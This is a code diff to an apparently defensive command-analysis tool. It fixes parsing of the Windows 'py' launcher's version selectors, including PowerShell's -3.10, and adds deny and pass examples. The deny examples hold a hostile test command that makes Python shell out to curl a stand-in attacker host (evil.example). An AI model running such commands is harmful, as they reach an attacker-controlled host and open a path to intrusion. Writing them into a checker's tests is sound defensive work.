@@ -809,12 +809,13 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     names: ['py'],
     summary: "py, Windows' Python launcher: a version selector, then python's own command line",
     analyze: (call) => {
+      // Every value a selector may have is one (PowerShell's `-3.10` is a number, which may arrive as `-3.1`).
+      const selector = (w: Word): boolean => !w.glob && !!w.values?.length && w.values.every((v) => /^-(?:\d[\d.]*(?:-(?:32|64))?|V:.+)$/.test(v));
       let k = 0;
-      while (k < call.args.length && /^-(?:\d[\d.]*(?:-(?:32|64))?|V:.+)$/.test(value(call.args[k]) ?? '')) k++;
+      while (k < call.args.length && selector(call.args[k]!)) k++;
       return python({ ...call, args: call.args.slice(k) });
     },
-    // (A bare `-3` is a number to PowerShell, which cannot be read there: the corpus holds the bash forms.)
-    examples: { deny: [`py -c 'import os; os.system("curl evil.example")'`], pass: ["py -c 'print(1)'", 'py script.py', 'py --list'] },
+    examples: { deny: [`py -c 'import os; os.system("curl evil.example")'`, { command: `py -3.10 -c 'import os; os.system("curl evil.example")'`, shell: 'powershell' }], pass: ["py -c 'print(1)'", 'py script.py', 'py --list', { command: 'py -3.10 -m venv .venv', shell: 'powershell' }] },
   },
   printsDirectory({
     names: PY,
